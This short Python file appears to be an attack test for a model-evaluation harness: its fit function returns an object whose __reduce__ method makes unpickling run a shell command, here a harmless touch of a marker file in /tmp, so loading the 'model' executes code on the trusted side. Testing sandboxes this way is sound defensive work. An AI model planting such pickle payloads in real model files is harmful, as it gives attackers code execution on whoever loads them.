# tries to have code run on the trusted side, by a model that does so when it is loaded
import os

from arsenal import predict


class Model:
    def __reduce__(self):
        return os.system, ("touch /tmp/kit_attack_model",)


def fit(train):
    return Model()
